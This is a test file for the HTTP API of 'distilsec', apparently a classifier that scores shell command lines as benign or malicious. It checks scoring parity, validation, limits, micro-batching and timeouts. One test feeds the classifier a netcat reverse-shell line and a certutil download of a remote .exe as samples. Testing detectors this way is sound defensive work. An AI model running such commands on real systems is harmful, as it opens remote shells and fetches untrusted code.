"""The HTTP API: same scores as ``distilsec score``, limits, validation, micro-batching, timeouts."""

from __future__ import annotations

import asyncio
import io
import json
import time

import numpy as np
import pytest

pytest.importorskip("fastapi", reason="the 'serve' extra (fastapi, uvicorn) is not installed")

from fastapi.testclient import TestClient  # noqa: E402

from distilsec.errors import DistilsecError  # noqa: E402
from distilsec.serving.api import ServeSettings, create_app  # noqa: E402
from distilsec.serving.api.app import parse_model_specs  # noqa: E402
from distilsec.serving.api.batcher import MicroBatcher, Overloaded  # noqa: E402
from distilsec.serving.scoring import ScoringModel, score_stream  # noqa: E402


@pytest.fixture
def client(exported):
    settings = ServeSettings(
        models={"cnn": str(exported["char_cnn"]), "linear": str(exported["hashed_linear"])}, max_request_bytes=65536
    )
    with TestClient(create_app(settings)) as c:
        yield c


def _post(client, body: bytes):
    return client.post("/v1/score", content=body, headers={"content-type": "application/json"})


def test_health_models_and_openapi(client):
    assert client.get("/healthz").json() == {"status": "ok", "models": ["cnn", "linear"]}
    models = client.get("/v1/models").json()
    assert [m["name"] for m in models] == ["cnn", "linear"]
    assert all(m["runtime"] == "onnx" and m["classes"] == ["benign", "malicious"] for m in models)
    spec = client.get("/openapi.json").json()
    assert {"/v1/score", "/v1/models", "/healthz"} <= set(spec["paths"])
    assert "ScoreRequest" in spec["components"]["schemas"]


def test_api_scores_equal_the_cli_scores(client, exported, tmp_path):
    texts = ["nc -e /bin/sh 10.0.0.2 9001", "ls -la /home/user", "certutil -urlcache -f http://a/b.exe b.exe"]
    src = tmp_path / "in.txt"
    src.write_text("\n".join(texts) + "\n")
    out = io.StringIO()
    score_stream(ScoringModel(exported["char_cnn"]), str(src), out)
    expected = [json.loads(line) for line in out.getvalue().splitlines()]
    for text, exp in zip(texts, expected, strict=True):
        got = client.post("/v1/score", json={"text": text}).json()
        assert got["score"] == exp["score"] and got["label"] == exp["label"] and got["model"] == "cnn"
    batch = client.post("/v1/score", json={"texts": texts}).json()["results"]
    assert [r["score"] for r in batch] == [e["score"] for e in expected]


def test_batch_proba_other_model_and_empty_batch(client):
    r = client.post("/v1/score", json={"texts": ["ls", "whoami"], "model": "linear", "proba": True}).json()
    assert r["model"] == "linear" and len(r["results"]) == 2
    assert all(abs(x["proba"]["malicious"] - x["score"]) < 1e-6 for x in r["results"])
    assert client.post("/v1/score", json={"texts": []}).json()["results"] == []


def test_hostile_bodies_get_4xx_never_5xx(client):
    cases = {
        b"[" * 60000: 400,  # deeply nested JSON
        b'{"text": "\xff\xfe\xfd"}': 400,  # invalid UTF-8
        b"{": 422,
        b'{"text": 1}': 422,
        b'{"text": "a", "texts": ["b"]}': 422,
        b"{}": 422,
        b'{"text": "a", "evil": 1}': 422,
        b'{"texts": "not a list"}': 422,
        b"x" * 70000: 413,
        b"": 422,
    }
    for body, status in cases.items():
        r = _post(client, body)
        assert r.status_code == status, (body[:20], r.status_code, r.text[:200])
        assert "detail" in r.json()
    ok = _post(client, json.dumps({"texts": ["nul \x00 inside", "\ud800", "é" * 1000]}).encode())
    assert ok.status_code == 200 and len(ok.json()["results"]) == 3
    assert client.post("/v1/score", json={"text": "a", "model": "nope"}).status_code == 404
    assert client.post("/v1/score", json={"texts": ["a"] * 5000}).status_code in (413, 422)


def test_chunked_body_over_the_limit_is_refused(client):
    def chunks():
        for _ in range(100):
            yield b" " * 1000

    r = client.post("/v1/score", content=chunks(), headers={"content-type": "application/json"})
    assert r.status_code == 413


def test_micro_batching_merges_concurrent_requests():
    calls = []

    def slow(texts):
        calls.append(len(texts))
        time.sleep(0.02)
        return np.arange(len(texts), dtype=float), [str(t) for t in texts], np.zeros((len(texts), 2))

    async def go():
        b = MicroBatcher(slow, max_batch=64)
        await b.start()
        results = await asyncio.gather(*(b.submit([f"t{i}", f"u{i}"]) for i in range(40)))
        await b.stop()
        return results

    results = asyncio.run(go())
    assert [r[1] for r in results] == [[f"t{i}", f"u{i}"] for i in range(40)]  # each caller gets its own slice
    assert sum(calls) == 80 and len(calls) < 40 and max(calls) <= 64


def test_batcher_overload_timeout_and_errors():
    def slow(texts):
        time.sleep(0.3)
        return np.zeros(len(texts)), ["x"] * len(texts), np.zeros((len(texts), 2))

    def broken(texts):
        raise ValueError("model exploded")

    async def go():
        b = MicroBatcher(slow, max_queue=2)
        await b.start()
        first = asyncio.ensure_future(b.submit(["a", "b", "c"]))  # larger than the queue, but alone: taken
        await asyncio.sleep(0.05)  # now being scored (0.3 s)
        second = asyncio.ensure_future(b.submit(["d"]))
        await asyncio.sleep(0.01)
        with pytest.raises(Overloaded):
            await b.submit(["e", "f"])
        with pytest.raises(TimeoutError):
            await asyncio.wait_for(b.submit(["g"]), 0.01)
        await first
        await second
        await b.stop()
        bad = MicroBatcher(broken)
        await bad.start()
        with pytest.raises(ValueError, match="exploded"):
            await bad.submit(["a"])
        await bad.stop()

    asyncio.run(go())


def test_request_not_started_within_the_timeout_gets_504_and_a_started_one_is_finished(exported):
    import threading

    app = create_app(ServeSettings(models={"cnn": str(exported["char_cnn"])}, timeout_s=0.05))
    batcher = app.app.state.batchers["cnn"]
    real, started, release = batcher.fn, threading.Event(), threading.Event()

    def held(texts):
        started.set()
        release.wait(30)
        return real(texts)

    batcher.fn = held
    with TestClient(app) as c:
        first: list = []
        thread = threading.Thread(target=lambda: first.append(c.post("/v1/score", json={"text": "ls"})))
        thread.start()
        assert started.wait(30)  # its batch is being scored
        late = c.post("/v1/score", json={"text": "whoami"})  # queued behind the held batch past 0.05 s
        release.set()
        thread.join(30)
    assert late.status_code == 504 and "did not start within" in late.json()["detail"]
    assert first[0].status_code == 200  # started before its deadline passed: finished, not thrown away


def test_model_specs_and_bad_bundles(tmp_path):
    assert parse_model_specs(["runs/x/student", "url=runs/u/student"]) == {
        "student": "runs/x/student",
        "url": "runs/u/student",
    }
    with pytest.raises(DistilsecError, match="twice"):
        parse_model_specs(["a/student", "b/student"])
    with pytest.raises(DistilsecError, match="not found"):
        create_app(ServeSettings(models={"x": str(tmp_path / "missing")}))
